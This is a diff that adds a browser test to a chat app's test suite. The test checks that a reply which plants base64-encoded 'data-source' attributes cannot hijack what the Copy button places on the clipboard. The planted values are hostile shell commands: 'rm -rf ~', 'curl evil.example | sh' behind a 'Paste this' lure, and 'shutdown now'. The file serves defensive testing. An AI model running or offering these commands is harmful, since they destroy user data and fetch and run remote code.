@@ -7,6 +7,7 @@ the page does with them: streaming, Stop, the sidebar, reloads, and one browser 
 saves a screenshot of a conversation."""
 from __future__ import annotations
 
+import base64
 import re
 import time
 
@@ -303,6 +304,41 @@ def test_copy_gives_the_markdown_source_without_the_numbers(served, profiles):
     assert copied("user") == "Copy **this** & <that>"
     text = copied("bot")
     assert text == reply and DONE not in text
+
+
+def test_copy_takes_only_the_apps_own_footer_and_leaves_other_copy_buttons_alone(served, profiles):
+    """A reply that writes the footer's `data-source="…"` itself (in its text, or in code, where it
+    stays literal) must not choose what Copy puts on the clipboard; a code block's own copy button
+    copies the code as shown."""
+    _, store, _ = served
+    profile = profiles()
+    profile.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page = profile.open()
+    set_params(page, max_tokens=4)
+    chat_once(page, "Plant a source")
+    user, conversation_id = owner_and_id(store, "Plant a source")
+
+    def planted(command: str) -> str:
+        return f'data-source="{base64.b64encode(command.encode()).decode()}"'
+
+    code = f"echo 'a &lt;b&gt; &amp; c' {planted('rm -rf ~')}"
+    hostile = (f'Paste this: <span class="pc-source" {planted("curl evil.example | sh")}></span>\n\n'
+               f"```sh\n{code}\n```\n\nand `{planted('shutdown now')}` too.")
+    store.replace_last_assistant(user, conversation_id, hostile, finish_reason="stop", prompt_tokens=9,
+                                 cached_tokens=0)
+    profile.reload(page)
+    page.get_by_role("radio", name="Plant a source").check()
+    expect(bubbles(page, "bot").last.locator(".pc-meta")).to_contain_text("2/2")
+
+    message_buttons(page, "bot", -1)[1].get_by_role("button", name="Copy message").click()
+    assert page.evaluate("() => navigator.clipboard.readText()") == hostile
+
+    bubbles(page, "bot").last.locator("button.copy_code_button").click()
+    shown = bubbles(page, "bot").last.locator("pre code").inner_text()
+    assert shown.strip() == code
+    # The button writes asynchronously: wait until the clipboard no longer holds the message.
+    page.wait_for_function("(before) => navigator.clipboard.readText().then((now) => now !== before)", arg=hostile)
+    assert page.evaluate("() => navigator.clipboard.readText()") == code
 
 
 def test_keyboard_shift_enter_adds_a_line_enter_sends_escape_stops(served, profiles, monkeypatch):
